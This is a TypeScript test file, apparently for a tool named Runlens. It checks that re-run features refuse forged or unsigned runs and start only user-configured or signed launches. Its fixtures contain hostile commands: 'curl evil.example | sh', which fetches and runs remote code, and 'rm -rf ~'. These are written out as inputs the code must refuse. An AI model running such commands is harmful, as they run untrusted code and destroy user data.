/**
 * Re-run, Re-run Last and Debug from Here start only what this user configured or what this
 * user's Runlens provably launched — never a command that arrived with trace data. Real
 * sql.js store, real launch signatures (a key file of the test's own).
 */
import { strict as assert } from 'node:assert';
import * as path from 'node:path';
import type { Run } from '../../src/core/model';
import { signLaunch, userKey } from '../../src/core/launchKey';
import { beginRun } from '../../src/core/runner';
import { TraceStore } from '../../src/core/store/store';
import { lastRerunnable, resolveRerun } from '../../src/extension/rerun';
import type { WorkflowSpec } from '../../src/extension/workflowSources';
import { tempDir } from './helpers/fixtures';

const T0 = 1_700_000_000_000_000_000n;
const declared: WorkflowSpec = {
  name: 'nightly',
  command: ['python3', '/ws/flows/nightly.py'],
  cwd: '/ws',
  env: { MODE: 'full' },
  origin: 'settings',
};
const sources = (over: Partial<Parameters<typeof resolveRerun>[1]> = {}) => ({ declared: [declared], fallbackCwd: '/ws', ...over });

describe('re-running a stored run', () => {
  let store: TraceStore;
  let keyBefore: string | undefined;
  let dir: string;

  before(() => {
    dir = tempDir();
    keyBefore = process.env.RUNLENS_KEY_FILE;
    process.env.RUNLENS_KEY_FILE = path.join(dir, 'launch.key');
  });
  after(() => {
    if (keyBefore === undefined) delete process.env.RUNLENS_KEY_FILE;
    else process.env.RUNLENS_KEY_FILE = keyBefore;
  });
  beforeEach(async () => {
    store = await TraceStore.open();
  });
  afterEach(() => store.close());

  /** What a web page or a cloned repository's .runlens/ can put in the store: a run that claims to be a launch. */
  function forged(id: string, over: Partial<Run> = {}): Run {
    store.apply({
      runs: [
        {
          id,
          name: id,
          workflow: id,
          status: 'FAILED',
          source: 'launch',
          command: ['sh', '-c', 'curl evil.example | sh'],
          cwd: '/tmp',
          startNs: T0,
          endNs: T0 + 1n,
          attributes: {},
          ...over,
        },
      ],
      spans: [],
    });
    return store.getRun(id)!;
  }

  it('offers no re-run of a run that carries source "launch", a command and a cwd but no signature, and says why', () => {
    const d = resolveRerun(forged('posted'), sources());
    assert.ok('refusal' in d, `would run ${JSON.stringify(d)}`);
    assert.match(d.refusal, /not launched by Runlens on this machine/);
  });

  it('does not lend a forged run the command of a same-named workflow from settings', () => {
    const d = resolveRerun(forged('nightly', { workflow: 'nightly' }), sources());
    assert.ok('refusal' in d, `would run ${JSON.stringify(d)}`);
  });

  it('refuses a run whose signature was made for another command, or with another key', () => {
    const mine = beginRun(store, { name: 'build', source: 'launch', command: ['npm', 'run', 'build'], cwd: '/ws' });
    const run = store.getRun(mine.id)!;
    const swapped = { ...run, command: ['sh', '-c', 'rm -rf ~'] };
    assert.ok('refusal' in resolveRerun(swapped, sources()));
    const otherKey = userKey(path.join(dir, 'someone-else.key'));
    const theirs = forged('theirs', {
      command: ['make'],
      cwd: '/ws',
      launchSignature: signLaunch({ id: 'theirs', command: ['make'], cwd: '/ws', workflow: 'theirs' }, otherKey),
    });
    assert.ok('refusal' in resolveRerun(theirs, sources()));
  });

  it('refuses imported and attached runs whatever they carry', () => {
    assert.match((resolveRerun(forged('imp', { source: 'import' }), sources()) as { refusal: string }).refusal, /imported/);
    assert.match((resolveRerun(forged('att', { source: 'otlp' }), sources()) as { refusal: string }).refusal, /attached/);
  });

  it('re-runs a run this user launched: the workflow as declared now, else the signed command line', () => {
    const a = beginRun(store, { name: 'nightly', source: 'launch', command: ['python3', 'old.py'], cwd: '/ws' });
    assert.deepEqual(resolveRerun(store.getRun(a.id)!, sources()), { spec: declared });
    const b = beginRun(store, { name: 'adhoc', source: 'launch', command: ['node', 'x.js'], cwd: '/ws/sub' });
    assert.deepEqual(resolveRerun(store.getRun(b.id)!, sources()), {
      spec: { name: 'adhoc', command: ['node', 'x.js'], cwd: '/ws/sub', env: {}, origin: 'run' },
    });
  });

  it("re-runs what this window launched from the window's own spec", () => {
    const spec: WorkflowSpec = { name: 'w', command: ['python3', 'w.py'], cwd: '/ws', env: {}, origin: 'launch' };
    const a = beginRun(store, { name: 'w', source: 'launch', command: ['python3', 'w.py'], cwd: '/ws' });
    assert.deepEqual(resolveRerun(store.getRun(a.id)!, sources({ windowSpec: spec })), { spec });
  });

  it('Re-run Last skips newer runs it may not re-run', () => {
    const mine = beginRun(store, { name: 'build', source: 'launch', command: ['npm', 'run', 'build'], cwd: '/ws' });
    const newer = forged('posted', { startNs: T0 * 2n });
    const runs = [newer, store.getRun(mine.id)!];
    assert.equal(lastRerunnable(runs)?.id, mine.id);
  });
});
